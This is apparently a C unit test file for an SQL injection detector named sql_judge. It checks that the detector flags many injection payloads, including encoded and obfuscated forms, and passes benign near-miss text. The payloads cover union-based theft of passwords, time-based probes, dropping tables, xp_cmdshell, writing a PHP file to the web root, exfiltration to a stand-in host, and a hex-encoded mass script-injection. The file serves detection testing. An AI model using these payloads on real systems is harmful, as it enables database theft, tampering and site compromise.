/* sql_judge.c - values that are SQL, what for and how hidden; and values that only look so.
 *
 * The rows were written for this test; none is from the corpora of sql_corpus.c.
 */
#include "sql/sql.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

static struct sql_scratch scratch;

/* DECLARE @T ..., a cursor over sysobjects and syscolumns, and UPDATE of all of them with a
 * script. */
#define MASS                                                                               \
	"4445434c415245204054205641524348415228323535292c4043205641524348415228323535"     \
	"29204445434c415245205461626c655f437572736f7220435552534f5220464f522053454c45"     \
	"435420612e6e616d652c622e6e616d652046524f4d207379736f626a6563747320612c737973"     \
	"636f6c756d6e73206220574845524520612e69643d622e6964204f50454e205461626c655f43"     \
	"7572736f72204645544348204e4558542046524f4d205461626c655f437572736f7220494e54"     \
	"4f2040542c4043205748494c4528404046455443485f5354415455533d302920424547494e20"     \
	"455845432827555044415445205b272b40542b275d20534554205b272b40432b275d3d525452"     \
	"494d28434f4e5645525428564152434841522834303030292c5b272b40432b275d29292b2727"     \
	"3c736372697074207372633d687474703a2f2f6578616d706c652e696e76616c69642f622e6a"     \
	"733e3c2f7363726970743e27272729204645544348204e4558542046524f4d205461626c655f"     \
	"437572736f7220494e544f2040542c404320454e44"

static const struct {
	const char *value;
	enum sql_class class;
} hits[] = {
	{ "7' or 7=7-- x", SQL_STEAL },
	{ "7 or 5 between 4 and 6", SQL_STEAL },
	{ "bob' and '4'='5", SQL_STEAL },
	{ "bob\" or \"q\"=\"q", SQL_STEAL },
	{ "bob`) or (`q`=`q", SQL_STEAL },
	{ "12) and 4>3 and (2=2", SQL_STEAL },
	{ "x' or length(pass)>3 and 'y' like 'y", SQL_STEAL },
	{ "x' rlike (case when 3=3 then 1 else 0 end) and 'a'='a", SQL_STEAL },
	{ "1 UnIoN aLl SeLeCt 5,6,7", SQL_STEAL },
	{ "1 union/**/select/**/null,pw/**/from/**/members", SQL_STEAL },
	{ "1/*!50001union*//*!50001select*/5,pw from members", SQL_STEAL },
	{ "-4' union(select 1,table_name from information_schema.tables)#", SQL_STEAL },
	{ "4 and extractvalue(3,concat(0x7e,(select user())))", SQL_STEAL },
	{ "4 and updatexml(3,concat(0x7e,version()),3)", SQL_STEAL },
	{ "4' and (select count(*) from shop.cards)>3 and 'a'='a", SQL_STEAL },
	{ "4 and 1=convert(int,@@version)", SQL_STEAL },
	{ "4' and if(ascii(substr(user(),2,1))>90,sleep(4),0)-- -", SQL_STEAL },
	{ "4;if (select count(*) from t)>3 waitfor delay '0:0:4'--", SQL_STEAL },
	{ "4 and sleep(4)", SQL_STEAL },
	{ "9 procedure analyse(extractvalue(1,concat(0x3a,user())),1)", SQL_STEAL },
	{ "1' and load_file(concat('\\\\',user(),'.example.invalid'))-- ", SQL_STEAL },
	{ "(select pass from members limit 2,1)", SQL_STEAL },
	{ "id,(select group_concat(pass) from members)", SQL_STEAL },
	{ "1||(select password from members where rownum=1)", SQL_STEAL },
	{ "1' and '{\"a\":2}'::jsonb @> '{\"a\":2}", SQL_STEAL },
	{ "x'||utl_http.request('http://example.invalid/'||user)||'", SQL_STEAL },
	{ "'+(select top 2 name from sys.tables)+'", SQL_STEAL },
	{ "7;waitfor delay '0:0:9'--", SQL_OVERLOAD },
	{ "7);select pg_sleep(9)--", SQL_OVERLOAD },
	{ "7'+benchmark(9000000,sha1(7))+'", SQL_OVERLOAD },
	{ "sleep(99)", SQL_OVERLOAD },
	{ "7;shutdown--", SQL_OVERLOAD },
	{ "7';shutdown with nowait;--", SQL_OVERLOAD },
	{ "7;begin dbms_lock.sleep(9); end;--", SQL_OVERLOAD },
	{ "7;select count(*) from all_objects a,all_objects b,all_objects c--",
		SQL_OVERLOAD },
	{ "7'; drop table members; --", SQL_TAMPER },
	{ "7; delete from members where 4=4", SQL_TAMPER },
	{ "7'; update members set role='root' where name='bob", SQL_TAMPER },
	{ "7; insert into members(name,role) values('bob','root')", SQL_TAMPER },
	{ "7; alter table members add x int", SQL_TAMPER },
	{ "7'; create user bob identified by 'x'--", SQL_TAMPER },
	{ "7'; truncate table members--", SQL_TAMPER },
	{ "7';exec master..xp_cmdshell 'net user'--", SQL_TAMPER },
	{ "7' union select '<?php ?>' into outfile '/srv/www/x.php'#", SQL_TAMPER },
	{ "7'; update posts set body=body+'<script src=//example.invalid></script>'--",
		SQL_TAMPER },
	{ "bob'--", SQL_PROBE },
	{ "bob' #", SQL_PROBE },
	{ "7 order by 12-- ", SQL_PROBE },
	{ "7' order by 3#", SQL_PROBE },
	{ "bo'||'b", SQL_PROBE },
	{ "bo'+'b", SQL_PROBE },
};

/* Sentences and searches; the comments say which rule is near. */
static const char *const near_misses[] = {
	"",
	"0",
	"-17",
	"3.14159",
	"2026-11-26T09:15:00+09:00",
	"bob",
	"bob@example.invalid",
	"O'Brien",
	"d'Artagnan",
	"rock 'n' roll",
	"'til Tuesday",
	"the workers' union",
	"teachers' union select committee meets at noon",
	"union select committee on farming",
	"credit union",
	"European Union, all members",
	"select one from the list",
	"Please select a size from our range where possible",
	"select the best of 5 from 10",
	"drop table lamps",
	"drop by; insert coin; update your profile",
	"Farmers' update on the market",
	"create table settings",
	"delete from cart",
	"insert into the slot",
	"5 or 6 eggs",
	"10 and 20",
	"1 or 2",
	"black and white",
	"and then there were 3",
	"salt and pepper = taste",
	"having 2 kids",
	"like 5 others",
	"order by phone",
	"order by Friday 5 pm",
	"group by the door",
	"sleep (8 hours)",
	"I sleep well",
	"wait for delay",
	"5\" x 7\" frame",
	"16\" or 18\"",
	"6' and 5' boards",
	"\"red\" AND \"blue\"",
	"\"red\" + \"blue\"",
	"signs like \"<\" or \"+\" here",
	"between ',' and ';'",
	"this is \"and\"ed together",
	"she said \"call me (later)\"",
	"C++ -- the language",
	"C# and F#",
	"#1 fan",
	"page=4#top",
	"50% off & more",
	"AT&T",
	"a=b&c=d",
	"x -> y",
	"<b class=\"big\">bold</b>",
	"<a href=\"/teams/\">teams</a>",
	"(optional) name (required)",
	"f(x) = 2x + 1",
	"tel:+81 (0)3 1234-5678",
	"{\"id\": 4, \"name\": \"bob\"}",
	"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
	("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	 "Chrome/120.0.0.0 Safari/537.36"),
	"https://www.example.invalid/search?q=a+b&page=2#results",
	"dGhpcyBpcyBub3Qgc3Fs--",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0In0.Sfl-KxwRJSMeKKF2QT4fwpMeJf36POk6yJV",
	"GA1.2.1234567890.1234567890",
	"550e8400-e29b-41d4-a716-446655440000",
	"%E3%83%86%E3%82%B9%E3%83%88",
	"caf\xc3\xa9 cr\xc3\xa8me",
	"https%3A%2F%2Fexample.invalid%2F%3Fa%3D1%26b%3D2",
	"a+b+c",
	"100%25",
	"+a%",
	"13&#39;s",
	"6&#39; tall",
	"0xdeadbeef",
	"aGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA==",
	"%E%n%g%l%i%s%h% %t%e%x%t",
};

static void
hits_and_classes(void **state)
{
	struct sql_verdict v;

	(void)state;
	for (size_t i = 0; i < sizeof(hits) / sizeof(hits[0]); i++) {
		bool hit = sql_judge(bytes_text(hits[i].value), &scratch, &v);
		if (!hit || v.class != hits[i].class)
			print_message("%s: %s, %s\n", hits[i].value,
				sql_class_name(v.class), v.rule ? v.rule : "no rule");
		assert_true(hit);
		assert_int_equal(v.class, hits[i].class);
		assert_non_null(v.rule);
		assert_true(v.fingerprint[0]);
	}
}

static void
no_hits(void **state)
{
	struct sql_verdict v;
	bool any = false;

	(void)state;
	for (size_t i = 0; i < sizeof(near_misses) / sizeof(near_misses[0]); i++) {
		bool hit = sql_judge(bytes_text(near_misses[i]), &scratch, &v);
		if (hit)
			print_message(
				"%s: %s (%s)\n", near_misses[i], v.rule, v.fingerprint);
		any |= hit;
	}
	assert_false(any);
}

static const struct {
	const char *value;
	unsigned layers, depth;
	enum sql_class class;
} hidden[] = {
	{ "7%27+or+7%3D7--+x", SQL_PERCENT, 1, SQL_STEAL },
	{ "7%2527%2520or%25207%253D7--", SQL_PERCENT, 2, SQL_STEAL },
	{ "7%252527%252520or%2525207%25253D7--", SQL_PERCENT, 3, SQL_STEAL },
	{ "7+or+length(pw)+in+(3,4)", SQL_PERCENT, 1, SQL_STEAL },
	{ "bob%u0027 or %u0037=7", SQL_UNICODE, 1, SQL_STEAL },
	{ "bob\\u0027--", SQL_UNICODE, 1, SQL_PROBE },
	{ "7&#39; or 7=7--", SQL_ENTITY, 1, SQL_STEAL },
	{ "7&#x27; or &quot;q&quot;=&quot;q", SQL_ENTITY, 1, SQL_STEAL },
	{ "bob&apos;--", SQL_ENTITY, 1, SQL_PROBE },
	{ "1&#39;", SQL_ENTITY, 1, SQL_PROBE },
	{ "7+ACc- or +ACc-a+ACcAPQAn-a", SQL_UTF7, 1, SQL_STEAL },
	{ "bob\xc0\xa7--", SQL_OVERLONG, 1, SQL_PROBE },
	{ "bob%c0%a7--", SQL_PERCENT | SQL_OVERLONG, 2, SQL_PROBE },
	{ "bob\\x27--", SQL_UNICODE, 1, SQL_PROBE },
	{ "%7%' %o%r %7%=%7%-%- %x", SQL_PERCENT, 1, SQL_STEAL },
	{ "Nycgb3IgNz03LS0geA==", SQL_BASE64, 1, SQL_STEAL },
	{ "Nycgb3IgNz03LS0geA%3D%3D", SQL_BASE64 | SQL_PERCENT, 2, SQL_STEAL },
	{ "7 un/**/ion sel/**/ect 4,5", SQL_COMMENT, 1, SQL_STEAL },
	{ "7 union/**/select/**/4,5", SQL_COMMENT, 0, SQL_STEAL },
	{ "7;exec(char(100)+char(114)+char(111)+char(112)+char(32)+char(116)+char(97)+char("
	  "98)+"
	  "char(108)+char(101)+char(32)+char(116)+char(59))",
		SQL_LITERAL, 0, SQL_TAMPER },
	{ "7 and 4=(select "
	  "0x73656c65637420706173732066726f6d206d656d62657273206c696d69742031)",
		SQL_LITERAL, 0, SQL_STEAL },
	{ "7%27%3BDECLARE%20@S%20VARCHAR(4000);SET%20@S=CAST(0x" MASS
	  "%20AS%20VARCHAR(4000));EXEC(@S);--",
		SQL_PERCENT | SQL_LITERAL, 1, SQL_TAMPER },
};

static void
layers(void **state)
{
	struct sql_verdict v;

	(void)state;
	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
		bool hit = sql_judge(bytes_text(hidden[i].value), &scratch, &v);
		if (!hit || v.layers != hidden[i].layers || v.depth != hidden[i].depth)
			print_message("%.80s: %d, layers %#x, depth %u\n", hidden[i].value,
				hit, v.layers, v.depth);
		assert_true(hit);
		assert_int_equal(v.layers, hidden[i].layers);
		assert_int_equal(v.depth, hidden[i].depth);
		assert_int_equal(v.class, hidden[i].class);
	}
}

/* Deeper encodings than SQL_DECODE_MAX are left alone. */
static void
too_deep(void **state)
{
	struct sql_verdict v;

	(void)state;
	assert_true(sql_judge(bytes_text("7%2525252527 or 7=8"), &scratch, &v));
	assert_false(sql_judge(bytes_text("bob%252525252527--"), &scratch, &v));
	assert_true(sql_judge(bytes_text("bob%25252527--"), &scratch, &v));
}

/* Any prefix, and any byte changed, is judged without reading outside and with a sound
 * verdict. */
static void
judge_copy(const uint8_t *at, size_t len)
{
	struct sql_verdict v;
	uint8_t *copy = malloc(len ? len : 1);

	assert_non_null(copy);
	memcpy(copy, at, len);
	bool hit = sql_judge(bytes_of(copy, len), &scratch, &v);
	assert_int_equal(hit, v.rule != NULL);
	assert_int_equal(hit, v.class != SQL_NONE);
	assert_true(strlen(v.fingerprint) <= SQL_FINGERPRINT_MAX);
	free(copy);
}

static void
cut_and_flipped(void **state)
{
	uint8_t text[2048];

	(void)state;
	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
		size_t len = strlen(hidden[i].value);
		assert_true(len < sizeof(text));
		memcpy(text, hidden[i].value, len);
		for (size_t k = 0; k <= len; k++)
			judge_copy(text, k);
		for (size_t k = 0; k < len; k++)
			for (unsigned bit = 0; bit < 8; bit++) {
				text[k] ^= (uint8_t)(1u << bit);
				judge_copy(text, len);
				text[k] ^= (uint8_t)(1u << bit);
			}
	}
}

/* Letters of another case, and spaces of another kind, change nothing. */
static void
same_in_capitals(void **state)
{
	struct sql_verdict a, b;
	char text[1024];

	(void)state;
	for (size_t i = 0; i < sizeof(hits) / sizeof(hits[0]); i++) {
		size_t len = strlen(hits[i].value);
		for (size_t k = 0; k <= len; k++) {
			char c = hits[i].value[k];
			text[k] = c >= 'a' && c <= 'z' ? (char)(c - 32)
				: c == ' '             ? '\t'
						       : c;
		}
		assert_true(sql_judge(bytes_text(hits[i].value), &scratch, &a));
		assert_true(sql_judge(bytes_text(text), &scratch, &b));
		assert_int_equal(a.class, b.class);
	}
}

/* Each byte as %XX, as often as asked. */
static size_t
escaped(const char *text, unsigned times, char *room)
{
	size_t len = strlen(text);

	memcpy(room, text, len);
	for (; times > 0; times--) {
		static char copy[4096];
		size_t n = 0;
		memcpy(copy, room, len);
		for (size_t i = 0; i < len; i++)
			n += (size_t)snprintf(
				room + n, 4, "%%%02X", (unsigned char)copy[i]);
		len = n;
	}
	return len;
}

/* A space as another space, or as a comment; a comment only where no text is hurt. */
static size_t
respaced(const char *text, const char *space, char *room)
{
	size_t n = 0;

	for (; *text; text++)
		if (*text == ' ')
			n += (size_t)snprintf(room + n, 16, "%s", space);
		else
			room[n++] = *text;
	return n;
}

static void
same_when_hidden(void **state)
{
	static const char *const spaces[] = { "+", "%20", "%0a", "%09%0b", "\xa0", "/**/" };
	static char text[8192];
	struct sql_verdict v;

	(void)state;
	for (size_t i = 0; i < sizeof(hits) / sizeof(hits[0]); i++) {
		for (unsigned times = 1; times <= 3; times++) {
			size_t len = escaped(hits[i].value, times, text);
			assert_true(sql_judge(bytes_of(text, len), &scratch, &v));
			assert_int_equal(v.class, hits[i].class);
			assert_int_equal(v.depth, times);
		}
		for (size_t k = 0; k < sizeof(spaces) / sizeof(spaces[0]); k++) {
			size_t len = respaced(hits[i].value, spaces[k], text);
			bool hit = sql_judge(bytes_of(text, len), &scratch, &v);
			if (!hit || v.class != hits[i].class)
				print_message("%.*s: %s\n", (int)len, text,
					sql_class_name(v.class));
			assert_true(hit);
			assert_int_equal(v.class, hits[i].class);
		}
	}
}

static void
long_values(void **state)
{
	static const char *const repeated[] = { "(", ")", "'", "\"", "`", "[", "/*", "--",
		"@", "@`", "select ", "union ", "(select ", "1,", "a)", "case ", "0x",
		"char(", "%27", "%2527", "+AC", "&#3", "' or ", "f(", ";", "; (", "w ",
		"=(", "x'", "\\", "/**/a", "1.e(" };
	static uint8_t text[SQL_VALUE_MAX * 2];
	struct sql_verdict v;

	(void)state;
	for (size_t i = 0; i < sizeof(repeated) / sizeof(repeated[0]); i++) {
		size_t len = strlen(repeated[i]);
		for (size_t k = 0; k < sizeof(text); k++)
			text[k] = (uint8_t)repeated[i][k % len];
		for (size_t k = SQL_VALUE_MAX - 2; k <= SQL_VALUE_MAX + 1; k++)
			sql_judge(bytes_of(text, k), &scratch, &v);
		sql_judge(bytes_of(text, sizeof(text)), &scratch, &v);
	}
	/* what stands behind much that is dull is still seen */
	memset(text, 'a', sizeof(text));
	memcpy(text + SQL_VALUE_MAX - 40, "' union select 4,5,6 from members-- ", 36);
	assert_true(sql_judge(bytes_of(text, SQL_VALUE_MAX), &scratch, &v));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hits_and_classes),
		cmocka_unit_test(no_hits),
		cmocka_unit_test(layers),
		cmocka_unit_test(too_deep),
		cmocka_unit_test(cut_and_flipped),
		cmocka_unit_test(same_in_capitals),
		cmocka_unit_test(same_when_hidden),
		cmocka_unit_test(long_values),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
